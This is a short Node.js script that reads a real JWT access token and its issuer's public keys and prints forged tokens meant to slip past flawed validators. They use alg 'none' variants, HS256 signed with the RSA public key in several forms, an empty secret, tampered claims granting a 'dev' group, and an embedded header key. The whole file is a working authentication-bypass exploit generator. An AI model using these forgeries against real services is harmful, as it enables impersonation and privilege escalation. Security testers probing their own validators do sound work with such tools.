// What a client can make of a token and of the public keys of its issuer: node oidc_forgeries.mjs TOKEN JWKS_URI
import { createHmac, createPublicKey } from "node:crypto";

const [token, jwksUri] = process.argv.slice(2);
const [header, claims, signature] = token.split(".");
const { kid } = JSON.parse(Buffer.from(header, "base64url"));
const jwk = (await (await fetch(jwksUri)).json()).keys.find((key) => key.kid === kid);
const encode = (value) => Buffer.from(JSON.stringify(value)).toString("base64url");
const pem = createPublicKey({ key: jwk, format: "jwk" }).export({ type: "spki", format: "pem" });
const by = (secret) => {
  const message = `${encode({ alg: "HS256", typ: "at+jwt", kid })}.${claims}`;
  return `${message}.${createHmac("sha256", secret).update(message).digest("base64url")}`;
};
const others = { ...JSON.parse(Buffer.from(claims, "base64url")), sub: "ci", groups: ["dev"], jti: "another" };
const unsigned = ["none", "None", "NONE"].flatMap((alg) => {
  const message = `${encode({ alg, typ: "at+jwt", kid })}.${claims}`;
  return [[`alg ${alg} without a signature`, `${message}.`], [`alg ${alg} with the signature`, `${message}.${signature}`]];
});
console.log(JSON.stringify(Object.fromEntries([
  ...unsigned,
  ["HS256 by the public key as PEM", by(pem)],
  ["HS256 by the public key as PEM without its last line break", by(pem.trimEnd())],
  ["HS256 by the public key as JWK", by(JSON.stringify(jwk))],
  ["HS256 by the modulus", by(Buffer.from(jwk.n, "base64url"))],
  ["HS256 by an empty secret", by("")],
  ["other claims", `${header}.${encode(others)}.${signature}`],
  ["a key in the header", `${encode({ alg: "RS256", jwk, typ: "at+jwt" })}.${encode(others)}.${signature}`],
])));
